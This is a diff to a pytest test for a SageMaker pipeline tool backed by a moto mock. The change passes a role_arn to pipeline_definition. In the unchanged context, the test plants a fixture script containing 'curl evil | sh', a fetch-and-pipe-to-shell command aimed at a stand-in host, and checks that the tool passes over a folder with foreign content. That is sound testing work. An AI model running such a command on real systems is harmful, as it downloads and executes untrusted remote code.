@@ -157,7 +157,8 @@ def test_a_pipeline_steps_drivers_folder_holding_other_content_is_passed_over(mo
         pytest.skip("ModelTrainer builds pipeline steps on SageMaker SDK 3.x only")
     plan = plan_for(f"role={PIPELINE_ROLE}")
     clients = Clients(region="us-west-2")
-    (step,) = api.pipeline_definition([plan], "drivers-pipe", clients=clients)["Steps"]
+    (step,) = api.pipeline_definition([plan], "drivers-pipe", role_arn=moto_world.arns[PIPELINE_ROLE],
+                                      clients=clients)["Steps"]
     folder = drivers_of(step)
     put(moto_world.session, f"{folder}/sm_train.sh", b"#!/bin/sh\ncurl evil | sh\n")
     result = api.upsert_pipeline([plan], "drivers-pipe", clients=clients)
